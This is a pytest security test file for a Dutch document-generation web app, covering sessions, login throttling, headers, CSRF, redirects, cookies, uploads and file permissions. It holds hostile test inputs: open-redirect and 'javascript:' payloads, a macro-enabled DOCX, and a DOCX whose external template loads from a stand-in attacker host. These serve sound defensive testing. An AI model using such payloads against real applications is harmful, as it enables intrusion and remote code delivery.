"""The web application against an attacker on the network and at the keyboard: sessions that end,
logins that can be neither guessed nor timed, headers and redirects that leak nothing, uploads that
carry only a letter, and files that nobody else on the machine can read. Each test talks HTTP to a
running `docgen serve`, or drives Debian's Chromium."""

from __future__ import annotations

import contextlib
import http.client
import io
import os
import re
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import DOCGEN, ROOT, SAMPLE, run_docgen
from web_helpers import CHROMIUM_ARGS, PASSWORD, Server

SEPOT = "2956047063"  # 0042.eml: a sepot, so a voornemen tot intrekking is drafted


def users(data: Path, *args: str, password: str = PASSWORD) -> subprocess.CompletedProcess:
    return subprocess.run([*DOCGEN, "users", *args, "--data", str(data)], cwd=ROOT, capture_output=True, text=True,
                          env={**os.environ, "DOCGEN_PASSWORD": password}, timeout=120)


@contextlib.contextmanager
def serving(data: Path, *options: str):
    server = Server(data, *options)
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def playwright():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        yield p


@pytest.fixture(scope="module")
def browser(playwright):
    executable = shutil.which("chromium")
    if not executable:
        pytest.fail("Chromium is missing: scripts/test.sh installs Debian's chromium")
    browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A register with a drafted sepot and a quarantined message, a behandelaar and a contactpersoon, and
    `docgen serve` on it."""
    data = tmp_path_factory.mktemp("websec") / "var"
    inbox = data.parent / "inbox"
    inbox.mkdir()
    shutil.copy(SAMPLE / "0042.eml", inbox / "0042.eml")
    shutil.copy(SAMPLE.parent / "hostile-sample" / "h07_rtlo_filename.eml", inbox / "h07.eml")  # quarantined
    run_docgen("run", "--inbox", str(inbox), "--data", str(data), "--once")
    for name, role in (("bea", "behandelaar"), ("cor", "contactpersoon")):
        assert users(data, "add", name, "--role", role).returncode == 0
    with serving(data, "--today", "2026-04-17", "--render-seconds", "5") as server:
        server.data = data
        yield server


@pytest.fixture
def fresh(tmp_path):
    """An empty register with two users, and its own server: lockouts here touch no other test."""
    data = tmp_path / "var"
    for name, role in (("bea", "behandelaar"), ("mona", "monitor")):
        assert users(data, "add", name, "--role", role).returncode == 0
    with serving(data) as server:
        server.data = data
        yield server


def visitor(playwright, server, state=None):
    """A browser's HTTP side: its own cookie jar; redirects are read, not followed."""
    return playwright.request.new_context(base_url=server.url, storage_state=state)


def csrf_of(text: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', text).group(1)


def log_in(client, name: str, password: str = PASSWORD, query: str = ""):
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login" + query).text())
    form = {"name": name, "password": password} | ({"csrf": token.group(1)} if token else {})
    return client.post("/login" + query, form=form, max_redirects=0)


def logged_in(client) -> bool:
    return client.get("/report", max_redirects=0).status == 200


def draft_links(client) -> tuple[str, str]:
    """The case page's DOCX link of the latest version of the drafted voornemen, and its upload form
    (with the version it corrects)."""
    page = client.get(f"/cases/{SEPOT}").text()
    section = page[page.index('id="brief-voornemen-intrekking'):]
    docx = re.search(r'href="(/versions/\d+/docx)"', section).group(1)
    upload = re.search(r'action="(/letters/\d+/upload)"', section).group(1)
    version = re.search(r'name="version" value="(\d+)"', section).group(1)
    return docx, f"{upload}?v={version}"


def upload_form(token: str, upload: str, name: str, data: bytes) -> dict:
    return {"csrf": token, "version": upload.rsplit("=", 1)[1], "docx": {
        "name": name, "mimeType": "application/octet-stream", "buffer": data}}


# -- sessions that can be ended (#11.6) -------------------------------------------------------

def test_a_copied_session_cookie_opens_nothing_after_logout(browser, site):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site.url}/login")
    page.fill("input[name=name]", "bea")
    page.fill("input[name=password]", PASSWORD)
    page.click("button:has-text('Inloggen')")
    assert page.url.endswith("/cases")
    stolen = context.cookies()
    page.click("button:has-text('Uitloggen')")
    assert page.url.endswith("/login")
    thief = browser.new_context()
    thief.add_cookies(stolen)
    page = thief.new_page()
    page.goto(f"{site.url}/cases/{SEPOT}")
    assert page.url.startswith(f"{site.url}/login"), "the session went on after logout"
    context.close()
    thief.close()


@pytest.mark.parametrize("change", [("remove",), ("passwd",), ("role", "monitor")], ids=["remove", "passwd", "role"])
def test_removing_a_user_or_changing_its_password_or_role_ends_its_sessions(playwright, fresh, change):
    client = visitor(playwright, fresh)
    assert log_in(client, "bea").status == 302
    assert client.get("/cases", max_redirects=0).status == 200
    done = users(fresh.data, change[0], "bea", *change[1:], password="another-long-password")
    assert done.returncode == 0, done.stderr
    assert "sessions are ended" in done.stdout
    response = client.get("/cases", max_redirects=0)
    assert response.status == 302 and "/login" in response.headers["location"]
    client.dispose()


# -- login throttling (#11.7) -----------------------------------------------------------------

def test_five_wrong_passwords_lock_the_name_and_the_page_says_for_how_long(browser, fresh):
    page = browser.new_page()
    for _ in range(5):
        page.goto(f"{fresh.url}/login")
        page.fill("input[name=name]", "bea")
        page.fill("input[name=password]", "wrong-password-guess")
        page.click("button:has-text('Inloggen')")
        assert "Onbekende naam of onjuist wachtwoord" in page.inner_text("main")
    page.fill("input[name=name]", "bea")
    page.fill("input[name=password]", PASSWORD)  # the right password no longer helps
    page.click("button:has-text('Inloggen')")
    assert page.url.startswith(f"{fresh.url}/login")
    assert ("Te veel mislukte pogingen om in te loggen met deze naam. Probeer het over 15 minuten opnieuw."
            in page.inner_text("main"))
    page.fill("input[name=name]", "mona")  # another name is not locked
    page.fill("input[name=password]", PASSWORD)
    page.click("button:has-text('Inloggen')")
    assert page.url.endswith("/inbox")
    page.close()


def test_an_unknown_name_is_locked_just_like_a_real_one(playwright, fresh):
    client = visitor(playwright, fresh)
    answers = [log_in(client, name, "wrong-password-guess") for name in ("bea", "nobody") for _ in range(6)]
    bea, nobody = answers[:6], answers[6:]
    assert [a.status for a in bea] == [a.status for a in nobody] == [200] * 5 + [429]
    assert re.search(r"deze naam\. Probeer het over \d+ minuten", nobody[-1].text())


def test_many_failures_from_one_address_lock_that_address(playwright, fresh):
    client = visitor(playwright, fresh)
    statuses = [log_in(client, f"guess{i}", "wrong-password-guess").status for i in range(30)]
    assert statuses == [200] * 30
    locked = log_in(client, "mona")
    assert locked.status == 429 and "vanaf dit adres" not in locked.text()
    assert "Te veel mislukte pogingen om in te loggen met dit adres" in locked.text()
    assert not logged_in(client)


def test_behind_a_trusted_proxy_each_client_address_is_throttled_on_its_own(playwright, tmp_path):
    data = tmp_path / "var"
    assert users(data, "add", "mona", "--role", "monitor").returncode == 0
    with serving(data, "--trusted-proxy", "127.0.0.1") as server:
        guesser, colleague = (playwright.request.new_context(base_url=server.url,
                                                             extra_http_headers={"X-Forwarded-For": address})
                              for address in ("192.0.2.10", "192.0.2.11"))  # documentation addresses
        assert all(log_in(guesser, f"guess{i}", "wrong-password-guess").status == 200 for i in range(30))
        assert log_in(guesser, "mona").status == 429
        assert log_in(colleague, "mona").status == 302  # the proxy's own address is not what was locked


def test_an_unknown_name_costs_the_same_password_check_as_a_wrong_password(tmp_path):
    """Structurally equal timing: every login attempt runs exactly one scrypt, with the real parameters."""
    import hashlib
    import sys

    from docgen.config import Settings
    from docgen.register.store import Reviews, Store
    from docgen.web import create_app
    from docgen.web.auth import dummy_hash, hash_password

    settings = Settings(data=tmp_path / "var", rules=ROOT / "inbox_rules", templates=ROOT / "templates")
    with Store(settings.database) as store:
        Reviews(store).add_user("bea", hash_password(PASSWORD), "behandelaar")
        real = Reviews(store).user("bea")["password_hash"]
    client = create_app(settings).test_client()

    def scrypt_runs(name: str) -> int:
        token = csrf_of(client.get("/login").text)
        runs = []
        sys.setprofile(lambda frame, event, arg: runs.append(1) if event == "c_call" and arg is hashlib.scrypt
                       else None)
        try:
            client.post("/login", data={"csrf": token, "name": name, "password": "wrong-password-guess"})
        finally:
            sys.setprofile(None)
        return len(runs)

    assert scrypt_runs("bea") == scrypt_runs("nobody") == scrypt_runs("someone-else") == 1
    assert dummy_hash().split("$")[0] == real.split("$")[0]  # same method, N, r and p


# -- headers, redirects, CSRF on login, cookies, server (#11.15) ------------------------------

def test_every_answer_forbids_caching_and_referrers_and_names_no_server_version(playwright, site):
    client = visitor(playwright, site)
    answers = {"login page": client.get("/login")}
    log_in(client, "bea")
    docx, _ = draft_links(client)
    answers["case page"] = client.get(f"/cases/{SEPOT}")
    answers["letter download"] = client.get(docx)
    for what, answer in answers.items():
        assert answer.status == 200, what
        assert "no-store" in answer.headers["cache-control"], what
        assert answer.headers["referrer-policy"] in ("same-origin", "no-referrer"), what
        assert not re.search(r"\d", answer.headers.get("server", "")), f"{what}: {answer.headers.get('server')}"
        assert "werkzeug" not in answer.headers.get("server", "").lower(), what
    client.dispose()


def test_the_login_form_needs_its_csrf_token(playwright, site):
    client = visitor(playwright, site)
    client.get("/login")
    answer = client.post("/login", form={"name": "bea", "password": PASSWORD}, max_redirects=0)
    assert answer.status == 400 and "Het formulier was verlopen" in answer.text()
    assert not logged_in(client)
    forged = client.post("/login", form={"name": "bea", "password": PASSWORD, "csrf": "forged"}, max_redirects=0)
    assert forged.status == 400 and not logged_in(client)
    client.dispose()


@pytest.mark.parametrize("target", ["https://evil.example/login", "//evil.example/login", "/\\evil.example",
                                    "javascript:alert(1)", "http:/evil.example"])
def test_after_login_the_next_page_is_always_a_page_of_the_application(playwright, site, target):
    from urllib.parse import quote

    client = visitor(playwright, site)
    answer = log_in(client, "bea", query=f"?next={quote(target, safe='')}")
    assert answer.status == 302 and answer.headers["location"] == "/cases"
    client.dispose()


def test_after_login_the_page_asked_for_is_shown(playwright, site):
    client = visitor(playwright, site)
    answer = log_in(client, "bea", query=f"?next=/cases/{SEPOT}")
    assert answer.status == 302 and answer.headers["location"] == f"/cases/{SEPOT}"
    client.dispose()


def test_a_form_sent_from_another_site_is_never_sent_back_there(playwright, site):
    client = visitor(playwright, site)
    log_in(client, "bea")
    docx, _ = draft_links(client)
    approve = docx.replace("/docx", "/approve")
    token = csrf_of(client.get(f"/cases/{SEPOT}").text())
    answer = client.post(approve, form={"csrf": token}, headers={"Referer": "https://evil.example/phish"},
                         max_redirects=0)
    assert answer.status in (302, 409)
    if answer.status == 302:
        assert answer.headers["location"] == "/cases"
    client.dispose()


def test_secure_cookies_are_sent_over_https_only(tmp_path, playwright):
    data = tmp_path / "var"
    with serving(data, "--secure-cookies") as server:
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        conn.request("GET", "/login")
        response = conn.getresponse()
        cookies = [v for k, v in response.getheaders() if k.lower() == "set-cookie"]
        conn.close()
    assert cookies and all("Secure" in c and "HttpOnly" in c and "SameSite=Strict" in c for c in cookies)
    assert cookies[0].startswith("__Host-")


def test_a_request_larger_than_a_letter_is_refused_before_it_is_read(site):
    size = 15 * 1024 * 1024
    conn = http.client.HTTPConnection("127.0.0.1", site.port, timeout=30)
    conn.putrequest("POST", "/letters/1/upload")
    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
    conn.putheader("Content-Length", str(size))
    conn.endheaders()
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):
        chunk = b"\0" * 65536
        for _ in range(size // len(chunk)):
            conn.send(chunk)
    assert conn.getresponse().status == 413
    conn.close()


def test_a_letter_that_takes_long_to_lay_out_costs_the_server_neither_time_nor_memory(playwright, site):
    """30,000 paragraphs (120 kB zipped) took 30 s and 600 MB inside the server; now a child does it, bounded."""
    import docx as python_docx

    document = python_docx.Document()
    for i in range(30_000):
        document.add_paragraph(f"Alinea {i} van een brief die niemand zo zou schrijven, maar die wel past.")
    heavy = io.BytesIO()
    document.save(heavy)
    client = visitor(playwright, site)
    log_in(client, "bea")
    docx, upload = draft_links(client)
    before = client.get(docx).body()
    token = csrf_of(client.get(f"/cases/{SEPOT}").text())
    answer = client.post(upload.split("?")[0], multipart=upload_form(token, upload, "brief.docx", heavy.getvalue()),
                         max_redirects=0)
    assert answer.status == 400  # too slow, or too big: refused either way, with the reason
    assert "niet binnen 5 seconden als PDF op te maken" in answer.text() or "geen PDF" in answer.text()
    assert client.get(docx).body() == before  # nothing was stored
    assert site.peak_memory_mb() < 200
    client.dispose()


# -- uploads (#11.8), through the browser ------------------------------------------------------

def _with_macros(document: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"document.main+xml", b"document.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            dst.writestr(item, data)
        dst.writestr("word/vbaProject.bin", b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nEnd Sub\n")
    return out.getvalue()


def test_a_document_with_macros_is_refused_in_dutch_and_the_draft_stays_as_it_was(browser, site, tmp_path):
    page = browser.new_page()
    page.goto(f"{site.url}/login")
    page.fill("input[name=name]", "bea")
    page.fill("input[name=password]", PASSWORD)
    page.click("button:has-text('Inloggen')")
    page.goto(f"{site.url}/cases/{SEPOT}")
    row = page.locator("section.letter", has_text="voornemen-intrekking")
    href = row.locator("a", has_text="DOCX").first.get_attribute("href")
    before = page.request.get(site.url + href).body()
    bad = tmp_path / "voornemen-intrekking.docx"
    bad.write_bytes(_with_macros(before))
    row.locator("input[type=file]").set_input_files(str(bad))
    with page.expect_response(lambda r: r.url.endswith("/upload")) as sent:
        row.locator("button", has_text="Correctie uploaden").click()
    assert sent.value.status == 400
    assert "Het document bevat macro's" in page.inner_text("body")
    assert page.request.get(site.url + href).body() == before
    page.close()


def test_an_uploaded_correction_is_stored_without_its_external_template(playwright, site):
    client = visitor(playwright, site)
    log_in(client, "bea")
    docx, upload = draft_links(client)
    sent = _with_external_template(client.get(docx).body())
    token = csrf_of(client.get(f"/cases/{SEPOT}").text())
    answer = client.post(upload.split("?")[0], multipart=upload_form(token, upload, "brief.docx", sent),
                         max_redirects=0)
    assert answer.status == 302
    stored_docx, _ = draft_links(client)  # the correction is the latest version now
    assert stored_docx != docx
    with zipfile.ZipFile(io.BytesIO(client.get(stored_docx).body())) as stored:
        everything = b"".join(stored.read(name) for name in stored.namelist())
    assert b"attachedTemplate" not in everything and b"evil.example" not in everything
    client.dispose()


def _with_external_template(document: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/settings.xml":
                data = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rId99"/>', data, count=1)
            dst.writestr(item, data)
        dst.writestr("word/_rels/settings.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/>'
            '</Relationships>'))
    return out.getvalue()


# -- private files (#11.10) --------------------------------------------------------------------

def test_a_fresh_run_and_serve_leave_nothing_readable_by_others(playwright, site):
    client = visitor(playwright, site)  # log in and out: sessions, failures and the secret are written
    log_in(client, "cor", "wrong-password-guess")
    log_in(client, "cor")
    client.get(f"/cases/{SEPOT}")
    client.dispose()
    open_to_others = [f"{path} {stat.filemode(path.stat().st_mode)}" for path in [site.data, *site.data.rglob("*")]
                      if path.stat().st_mode & 0o077]
    assert not open_to_others
    assert any(site.data.rglob("*.pdf")) and any((site.data / "quarantine").glob("*.reason.txt"))
    assert (site.data / "docgen.sqlite3").exists() and (site.data / "web-secret").exists()


def test_a_data_directory_left_open_by_an_older_version_is_closed(tmp_path):
    data = tmp_path / "var"
    data.mkdir(mode=0o755)
    data.chmod(0o755)
    assert users(data, "list").returncode == 0
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
